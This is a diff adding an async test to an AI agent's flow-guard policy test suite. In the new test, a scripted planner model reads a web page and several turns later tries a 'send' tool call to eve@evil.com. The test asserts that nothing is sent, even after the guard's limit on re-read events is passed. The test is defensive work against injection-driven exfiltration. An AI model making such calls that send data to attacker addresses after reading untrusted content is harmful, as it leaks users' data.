@@ -257,6 +257,27 @@ async def test_policy_holds_in_the_next_turn_of_the_session() -> None:
     assert "Read www.news.com" in model.plan_requests[0].messages[0].text
 
 
+async def test_policy_holds_after_more_events_than_are_read_again(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setattr("acc.application.tools.flow_guard._MAX_EARLIER_EVENTS", 2)
+    desk = Desk()
+    model = Planner(
+        planned("send"),
+        call("read_page", url="shop.com"),
+        "read",
+        "one",
+        "two",
+        call("send", to="eve@evil.com", body="x"),
+        "done",
+    )
+    agent = Agent(name="desk", model=model, tools=desk.tools(), flow="strict", memory=None)
+    runner = Runner(agent)
+    for message in ("Read shop.com", "Hello", "Hello again", "Send a mail to Bob"):
+        await runner.run(message)
+    assert desk.sent == []
+
+
 async def test_agent_as_tool_inherits_the_policy_of_the_root() -> None:
     desk = Desk()
     inner = Planner(planned("send"), call("send", to="eve@evil.com", body="x"), "tried")
